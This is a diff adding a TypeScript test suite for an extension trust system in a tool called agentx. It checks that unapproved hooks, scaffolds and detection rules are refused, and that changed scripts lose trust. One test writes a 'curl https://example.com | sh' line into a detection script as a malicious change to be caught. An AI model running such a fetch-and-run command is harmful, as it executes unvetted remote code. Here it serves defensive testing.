@@ -0,0 +1,124 @@
+import { describe, it, expect, beforeEach, afterEach } from 'vitest';
+import { mkdirSync, writeFileSync, readFileSync, rmSync, existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { tmpdir } from 'node:os';
+import { ensureTrusted, isTrusted, recordTrust, trustProjectExtension, isProjectExtensionTrusted } from '../../../src/core/trust.js';
+import { listContributions, buildSources, runDetectionRules, listProjectExtensions } from '../../../src/core/extension.js';
+import { initProject } from '../../../src/core/linker.js';
+import { runHooks } from '../../../src/core/hooks.js';
+import { generate, newScaffoldData } from '../../../src/core/scaffold.js';
+
+describe('extension contribution trust', () => {
+  let root: string;
+  let ext: string;
+  let log: string;
+  const decline = async () => false;
+  const accept = async () => true;
+
+  beforeEach(() => {
+    root = join(tmpdir(), `agentx-trust-test-${Date.now()}`);
+    process.env.AGENTX_HOME = join(root, 'home');
+    ext = join(root, 'home', 'extensions', 'acme');
+    log = join(root, 'hook.log');
+    mkdirSync(join(ext, 'scaffolds', 'corp-context'), { recursive: true });
+    writeFileSync(
+      join(ext, 'extension.yaml'),
+      [
+        'name: acme',
+        'capabilities:',
+        '  - kind: scaffold',
+        '    name: corp-context',
+        '    path: scaffolds/corp-context',
+        '  - kind: hook',
+        '    name: audit',
+        '    event: post-install',
+        `    command: echo "$AGENTX_HOOK_EVENT" >> ${log}`,
+        '  - kind: detection',
+        '    name: java',
+        '    command: echo presets/java',
+        '',
+      ].join('\n'),
+    );
+    writeFileSync(join(ext, 'scaffolds', 'corp-context', 'scaffold.yaml'), 'name: corp-context\ntype: context\n');
+    writeFileSync(join(ext, 'scaffolds', 'corp-context', 'README.md.tmpl'), '# {{.Name}}\n');
+  });
+
+  afterEach(() => {
+    delete process.env.AGENTX_HOME;
+    rmSync(root, { recursive: true, force: true });
+  });
+
+  const contribution = (kind: 'scaffold' | 'hook' | 'detection') =>
+    listContributions(buildSources(root), kind)[0];
+
+  it('refuses an unapproved contribution and remembers an approval', async () => {
+    const c = contribution('detection');
+    await expect(ensureTrusted(c, decline)).rejects.toThrow(/detection "java" from extension "acme" is not trusted/);
+    expect(isTrusted(c)).toBe(false);
+
+    await ensureTrusted(c, accept);
+    expect(isTrusted(c)).toBe(true);
+    await expect(ensureTrusted(c, decline)).resolves.toBeUndefined();
+  });
+
+  it('asks again when a script run by a command-only contribution changes', () => {
+    mkdirSync(join(ext, 'detect'), { recursive: true });
+    writeFileSync(join(ext, 'detect', 'java.sh'), '#!/bin/sh\necho presets/java\n');
+    const c = { ...contribution('detection'), command: './detect/java.sh' };
+    recordTrust(c);
+    expect(isTrusted(c)).toBe(true);
+
+    writeFileSync(join(ext, 'detect', 'java.sh'), '#!/bin/sh\ncurl https://example.com | sh\n');
+    expect(isTrusted(c)).toBe(false);
+  });
+
+  it('generates from an extension template set only once it is trusted', () => {
+    const data = newScaffoldData('style', 'context', 'docs', '', 'node');
+    const outDir = join(root, 'out');
+    expect(() => generate('context', data, outDir, { template: 'corp-context' })).toThrow(/not trusted/);
+    expect(existsSync(outDir)).toBe(false);
+
+    recordTrust(contribution('scaffold'));
+    generate('context', data, outDir, { template: 'corp-context' });
+    expect(readFileSync(join(outDir, 'README.md'), 'utf-8')).toBe('# style\n');
+  });
+
+  it('skips an unapproved extension hook and runs it once approved', async () => {
+    const skipped = await runHooks('post-install', {}, { approve: decline });
+    expect(skipped.warnings).toEqual([expect.stringMatching(/^Skipped extension acme's post-install hook/)]);
+    expect(existsSync(log)).toBe(false);
+
+    const ran = await runHooks('post-install', {}, { approve: accept });
+    expect(ran.ran).toMatchObject([{ scope: 'extension', cwd: ext, exitCode: 0 }]);
+    expect(readFileSync(log, 'utf-8')).toBe('post-install\n');
+  });
+
+  it('runs detection rules only when approved', async () => {
+    const warnings: string[] = [];
+    expect(await runDetectionRules(root, buildSources(root), decline, warnings)).toEqual([]);
+    expect(warnings).toEqual([expect.stringMatching(/^Skipped detection rule acme\/java/)]);
+
+    expect(await runDetectionRules(root, buildSources(root), accept)).toEqual([
+      { extension: 'acme', rule: 'java', suggestions: ['presets/java'] },
+    ]);
+  });
+
+  it('loads a project-local extension only once trusted, and again after it changes', () => {
+    const project = join(root, 'project');
+    initProject(project, []);
+    const local = join(project, '.agentx', 'extensions', 'cloned');
+    mkdirSync(local, { recursive: true });
+    writeFileSync(join(local, 'extension.yaml'), 'name: cloned\n');
+    const names = () => buildSources(project).map((s) => s.name);
+
+    expect(names()).not.toContain('cloned');
+    expect(listProjectExtensions(project)).toEqual([{ name: 'cloned', path: local, trusted: false }]);
+
+    trustProjectExtension(local);
+    expect(names()).toContain('cloned');
+
+    writeFileSync(join(local, 'extension.yaml'), 'name: cloned\ndescription: changed\n');
+    expect(isProjectExtensionTrusted(local)).toBe(false);
+    expect(names()).not.toContain('cloned');
+  });
+});